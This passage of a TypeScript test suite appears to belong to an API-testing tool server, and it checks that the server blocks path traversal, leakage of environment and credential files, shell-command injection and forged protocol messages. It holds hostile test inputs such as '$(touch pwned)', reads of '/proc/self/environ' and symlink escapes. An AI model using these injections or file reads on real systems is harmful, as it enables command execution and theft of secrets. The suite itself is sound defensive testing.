          ['compile_source', { source: `${url}/src`, to: 'suite', outputFolder: 'out' }],
        ] as const) {
          const count = client.questions.length
          await client.call(tool, input)
          assert.ok(client.questions.slice(count).join().includes(url), tool)
        }
      })
      assert.deepEqual(did, nothing)
    }),
  )

  it('sends nothing from a script', () =>
    inScene({ era: '2026', args: ['--tools', 'all'] }, async ({ client, url, deed }) => {
      const step = { request: `POST ${url}/a`, scripts: { before: `pm.sendRequest('${url}/script')` } }
      const did = await deed(() => client.once('rehearse_request', { step }))
      assert.deepEqual(did, nothing)
    }))

  it('tells nothing of files outside the project', () =>
    withFolder({ 'private.txt': 'hunter2hunter2 is the word\n' }, async outside => {
      await inScene(
        { era: '2026', args: ['--tools', 'all'], environment: { AAA_FIRST: 'hunter2hunter2' } },
        async ({ client }) => {
          const file = path.join(outside, 'private.txt')
          for (const source of [file, '/proc/self/environ']) {
            await client.once('check_suites', { paths: ['a.apitest.yaml'], configurationFile: source })
            await client.once('check_suites', { paths: [source] })
            await client.once('validate_body', { source, direction: 'response', schema: 'a.json' })
            await client.once('compare_contracts', { documents: [source, source] })
            await client.once('compile_source', { source, to: 'suite', outputFolder: 'out' })
            await client.once('read_proto', { question: 'list', step: { proto: source } })
          }
          assert.doesNotMatch(client.output, /hunter2/)
        },
      )
    }))

  for (const way of ['by variables', 'by a link in the project'])
    it(`tells nothing of files outside the project that are named ${way}`, () =>
      withFolder({ 'private.txt': 'hunter2hunter2 is the word\n' }, outside =>
        inScene({ era: '2026', args: ['--tools', 'all'] }, async ({ client, folder }) => {
          await symlink(path.join(outside, 'private.txt'), path.join(folder, 'link.txt'))
          const isLink = way === 'by a link in the project'
          const proto = isLink ? 'link.txt' : '{{folder}}/{{name}}.txt'
          const variables = { folder: outside, name: 'private' }
          const parts = { folder: outside.slice(0, 3), name: `${outside.slice(3)}/private` }
          const named = isLink ? [variables] : [variables, parts]
          for (const given of named) {
            const place = given === parts ? '{{folder}}{{name}}.txt' : proto
            const input = isLink ? {} : { variables: given }
            await client.once('read_proto', { ...input, question: 'list', step: { proto: place } })
            const step = { request: 'POST http://a.example/', file: place }
            await client.once('rehearse_request', { ...input, step })
          }
          if (isLink) {
            await client.once('check_suites', { paths: ['link.txt'] })
            const body = { source: 'link.txt', direction: 'response', schema: 'a.json' }
            await client.once('validate_body', body)
          }
          assert.doesNotMatch(client.output, /hunter2/)
        }),
      ))
})

describe('the command that a client is told that cannot ask', () => {
  const hostile: readonly JsonValue[] = [
    'plain',
    `it's "quoted" \\ back\`tick\` $(touch pwned) $HOME !! %s %d \\n`,
    'line one\nline two\ttab\r\nline three',
    'umlaut ü, snow ☃, face 😀, bidi \u202e, nul-like \u0001 and \u007f',
    "'; touch pwned; '",
    '',
    { deep: [1, 2.5, null, true, { 'a b': "c'd" }] },
  ]

  it('does what was asked for, exactly', () =>
    inScene({ era: '2026', capabilities: {} }, async ({ client, folder, url, seen }) => {
      for (const value of hostile) {
        const input = { step: { request: `POST ${url}/hand`, json: { value } } }
        const { text } = await client.once('send_request', input)
        const command = commandIn(text)
        assert.equal(text.split('\n').length, 4, text)
        const count = seen.length
        const { exitCode, output, errors } = await runShell(folder, command)
        assert.equal(exitCode, 0, command + output + errors)
        assert.equal(seen.length, count + 1)
        assert.deepEqual(JSON.parse(String(seen.at(-1)?.body)), { value })
        assert.equal(existsSync(path.join(folder, 'pwned')), false)
      }
    }))

  it('is the command and nothing behind it', () =>
    inScene({ era: '2026', capabilities: {} }, async ({ client, folder }) => {
      const { text } = await client.once('create_saved', { name: 'Shop' })
      const { exitCode, errors } = await runShell(folder, commandIn(text))
      assert.equal(exitCode, 0, errors)
    }))

  it('may run what the server may', () =>
    inScene(
      { era: '2026', capabilities: {}, args: ['--allow-exec'] },
      async ({ client, folder }) => {
        const { text } = await client.once('run_suites', { paths: ['x.apitest.yaml'] })
        const command = commandIn(text)
        assert.match(command, /"allowExec":true/)
        await runShell(folder, command)
        assert.equal(existsSync(path.join(folder, 'made.txt')), true, command)
      },
      production,
    ))
})

describe('the configuration that a server is started with', () => {
  it('is that of its calls', () =>
    inScene(
      { era: '2026', args: ['--config', 'other.yaml', '--mode', 'auto'] },
      async ({ client, deed }) => {
        const did = await deed(() =>
          client.once('send_request', { environment: 'only', step: { request: 'GET {{base}}/o' } }),
        )
        assert.deepEqual(did.sent, ['GET /o'])
      },
      { 'other.yaml': 'environments:\n  only: { variables: { base: URL } }\n' },
    ))
})

describe('a command that a tool runs', () => {
  for (const tool of ['run_command', 'wait_for_health', 'run_suites'])
    it(`does not write into the conversation, nor read from it, by ${tool}`, () =>
      withFolder({}, async folder => {
        const args = ['--mode', 'auto', '--allow-exec', '--tools', 'all']
        await using client = await toolClient({ era: '2026', folder, args })
        const command = `echo '{"jsonrpc":"2.0","method":"notifications/evil"}'; echo noise; echo noise >&2; touch made.txt; head -c 1 > read.txt & sleep 0.5; kill $!`
        const inputs: Readonly<Record<string, JsonObject>> = {
          run_command: { command, timeout: 5_000 },
          wait_for_health: { urls: ['http://127.0.0.1:1/'], command, timeout: 5_000 },
          run_suites: { paths: ['x.apitest.yaml'] },
        }
        await writeFile(
          path.join(folder, 'x.apitest.yaml'),
          `suite: X\nsteps:\n  - exec: ${JSON.stringify(['sh', '-c', command])}\n`,
        )
        const done = client.once(tool, inputs[tool] ?? {})
        await wait(200)
        await client.request('tools/list')
        await done
        assert.equal(existsSync(path.join(folder, 'made.txt')), true)
        assert.equal(await readFile(path.join(folder, 'read.txt'), 'utf8'), '')
        assert.deepEqual([client.noise, client.notices], [[], []])
      }))
})
